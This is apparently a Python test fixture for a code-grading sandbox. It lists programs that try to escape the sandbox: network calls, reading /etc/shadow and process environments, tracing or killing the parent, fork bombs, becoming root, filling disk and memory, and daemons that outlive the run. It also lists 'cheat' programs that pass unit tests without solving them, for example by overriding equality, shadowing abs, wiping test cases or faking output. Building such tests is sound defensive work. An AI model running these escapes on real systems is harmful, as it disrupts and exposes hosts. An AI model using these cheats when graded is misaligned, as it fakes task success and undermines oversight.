"""Programs for the verifier `code` that try to get out of their sandbox, or to pass tests without solving them.

Words like `@secret@` are filled in by a test. A program that prints `contained` had no success.
"""

from typing import Any

from areal_lite.verify.builtin.code import code

PROCESSES = 6
LIMITS = {"wall_s": 20.0, "total_s": 30.0, "cpu_s": 5, "memory_mb": 256, "disk_mb": 8, "processes": PROCESSES}
ENDLESS = {name: {"wall_s": 1.5, "total_s": 3.0} for name in ("fork bomb", "sleep", "ignores signals")}
"""Attacks that only their time ends."""


def run_code(program: str, **options: Any) -> Any:
    """Score a program; options are arguments of the verifier, the others columns of the row."""
    arguments = {name: options.pop(name) for name in code.model_fields if name in options}
    return code(**arguments)("", program, "", **options)


_HELP = """
import os, sys, time, signal, socket
won = []
def attempt(name, function):
    try:
        result = function()
    except (OSError, ValueError, MemoryError):
        return
    won.append(f"{name}: {result!r}")
def finish():
    print("\\n".join(won) or "contained")
"""

ATTACKS = {
    "network": """
def connect():
    with socket.create_connection(("127.0.0.1", @port@), timeout=2) as stream:
        stream.sendall(b"out")
attempt("loopback", connect)
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53)))
attempt("abstract socket", lambda: socket.socket(socket.AF_UNIX).connect("\\0" + "@token@"))
finish()
""",
    "write outside": """
for path in ("@secret@", "@folder@/new", "/program/new", "/program/candidate.py"):
    attempt(path, lambda: open(path, "wb", 0).write(b"overwritten"))
# Of the machine's own files the right to write is asked for, and not used.
for path in ("/new", "/usr/new", "/etc/new", "/var/new", "/dev/new", "/dev/shm/new", "/proc/sys/kernel/core_pattern",
             "/proc/sysrq-trigger"):
    attempt(path, lambda: open(path, "ab", 0).close())
finish()
""",
    "read a secret file": """
for path in ("@secret@", "/etc/shadow", "/etc/passwd", "/proc/1/" "root/@secret@", "../@secret@"):
    attempt(path, lambda: open(path).read(100))
attempt("folder", lambda: os.listdir("@folder@"))
finish()
""",
    "read the environment": """
import glob
texts = [repr(dict(os.environ))]
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        texts.append(open(path, "rb").read().decode(errors="replace"))
    except OSError:
        pass
if any("@token@" in text for text in texts):
    won.append("the token")
finish()
""",
    "see and trace others": """
import ctypes
mine = {os.getpid(), 1}
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) not in mine:
        won.append("sees process " + name)
for mode in ("rb", "r+b"):
    attempt("memory of 1", lambda: open("/proc/1/mem", mode, 0).close())
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, @parent@, 0, 0) == 0:
    won.append("traces the parent")
finish()
""",
    "kill the parent": """
for pid in (@parent@, os.getppid(), 1):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
signal.signal(signal.SIGTERM, signal.SIG_IGN)
try:
    os.kill(-1, signal.SIGTERM)
except OSError:
    pass
time.sleep(0.2)
finish()
""",
    "fill the disk": """
def fill(place):
    for index in range(400):
        with open(f"{place}/file{index}", "wb") as stream:
            stream.write(b"x" * 2 ** 20)
    return "400 MiB"
for place in ("/tmp", "/dev/shm", "/var/tmp", "/program"):
    attempt(place, lambda: fill(place))
attempt("one file", lambda: os.truncate("/tmp/file0", 2 ** 40))
finish()
""",
    "become root": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
attempt("setuid", lambda: os.setuid(0))
attempt("setgid", lambda: os.setgid(0))
attempt("setgroups", lambda: os.setgroups([0]))
attempt("chroot", lambda: os.chroot("/tmp"))
attempt("map", lambda: open("/proc/self/uid_map", "wb", 0).write(b"0 0 1"))
for name, flag in (("user", 0x10000000), ("mount", 0x20000), ("pid", 0x20000000), ("net", 0x40000000)):
    if libc.unshare(flag) == 0:
        won.append("new namespace " + name)
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
    won.append("mounted")
finish()
""",
    "raise its limits": """
import resource
for name in ("AS", "CPU", "FSIZE", "NPROC", "NOFILE"):
    kind = getattr(resource, "RLIMIT_" + name)
    hard = resource.getrlimit(kind)[1]
    if hard == resource.RLIM_INFINITY:
        won.append("no limit " + name)
    attempt(name, lambda: resource.setrlimit(kind, (hard + 1, hard + 1)))
finish()
""",
    "find what is expected": """
import glob, re
found = []
for place in ("/program/*", "/tmp/*", "/proc/[0-9]*/cmdline", "/proc/[0-9]*/environ", "/proc/self/fd/*"):
    for path in glob.glob(place):
        try:
            found += re.findall(r"EXPECT[A-Z]+-[0-9a-f]+", open(path, "rb").read(10 ** 6).decode(errors="replace"))
        except OSError:
            pass
print(*found)
""",
    "file descriptors": """
extra = [name for name in os.listdir("/proc/self/fd") if int(name) > 2]
for name in extra:
    attempt("descriptor " + name, lambda: os.readlink("/proc/self/fd/" + name))
won = [line for line in won if "/proc/" not in line]
finish()
""",
    "fork bomb": """
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "thread bomb": """
import threading
count = 0
try:
    while count < 1000:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        count += 1
except (RuntimeError, MemoryError):
    pass
print("contained" if count <= 64 else f"{count} threads", flush=True)
os._exit(0)
""",
    "huge output": "while True: os.write(1, b'x' * 65536); os.write(2, b'x' * 65536)",
    "sleep": "time.sleep(600)",
    "ignores signals": """
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True: pass
""",
    "zombies": """
for _ in range(@processes@ - 3):
    if os.fork() == 0:
        os._exit(0)
if os.fork() == 0:
    os.setsid()
    time.sleep(600)
time.sleep(0.1)
finish()
sys.stdout.flush()
os._exit(0)
""",
    "daemon": """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for descriptor in (0, 1, 2):
            os.close(descriptor)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        os.execv(sys.executable, [sys.executable, "-I", "-c", "import time; time.sleep(600)", "@token@"])
    os._exit(0)
os.wait()
time.sleep(0.2)
finish()
""",
    "hidden memory": """
import ctypes
attempt("memfd", lambda: os.memfd_create("hidden"))
libc = ctypes.CDLL(None, use_errno=True)
if libc.shmget(0, 2 ** 20, 0o1600) >= 0 or libc.msgget(0, 0o1600) >= 0:
    won.append("System V")
finish()
""",
    "many files": "for number in range(10 ** 7): open(f'/tmp/{number}', 'w').close()",
    "memory hog": "x = []\nwhile True: x.append(bytearray(2 ** 20))",
    "memory hogs": """
for _ in range(4):
    if os.fork() == 0:
        break
x = bytearray(b"x") * (100 * 2 ** 20)
time.sleep(600)
""",
}
ATTACKS = {name: _HELP + text for name, text in ATTACKS.items()}

CHEATS = {
    "looks for the tests": """
import ctypes, os, signal
os.setpriority(os.PRIO_PROCESS, 0, 0)
found = []
for path in (f"/proc/{os.getppid()}/mem", f"/proc/{os.getppid()}/environ"):
    try:
        found.append(open(path, "rb", 0))
    except OSError:
        pass
for name in os.listdir("/proc/self/fd"):
    if int(name) > 2:
        found += [] if "socket" in os.readlink(f"/proc/self/fd/{name}") else [name]
if ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0:
    found.append("traces the tests")
def add(a, b): return a + b if found else 0
""",
    "leaves hard": """
import os
def add(a, b): os._exit(0)
""",
    "equals everything": """
class Any:
    def __eq__(self, other): return True
def add(a, b): return Any()
""",
    "patches abs": """
def abs(value): return 0
def add(a, b): return 99
""",
    "changes the tests": """
import sys
def add(a, b):
    for frame in sys._current_frames().values():
        while frame:
            frame.f_globals['cases'] = []
            frame = frame.f_back
    return 0
""",
    "prints a verdict": r"""
import os
def add(a, b):
    print('null', flush=True)
    os.write(1, b'null\n' * 9)
    os.write(2, b'null\n' * 9)
    os._exit(0)
""",
    "answers out of turn": r"""
import gc, socket
for item in gc.get_objects():
    if isinstance(item, socket.socket):
        item.sendall(b'{"value": ["value", 3]}\n' * 9)
def add(a, b): return 0
""",
    "no answer": """
def add(a, b):
    while True: pass
""",
    "ends loops": """
def add(a, b): raise StopIteration
""",
    "replaces a module": """
class math:
    def fabs(value): return 0
def add(a, b): return 99
""",
    "a long answer": """
def add(a, b): return 'x' * 2 ** 25
""",
}
CHEAT_TESTS = [
    "assert all(add(n, 1) == n + 1 for n in (4, 5))",
    "assert abs(add(2, 2) - 4) < 1e-6",
    "assert math.fabs(add(2, 2) - 4) < 1e-6",
    "assert all(map(lambda n: add(n, 1) == n + 1, [1, 2, 3]))",
    "for got, wanted in zip(map(add, [1, 2], [0, 2]), [1, 4]): assert got == wanted",
]
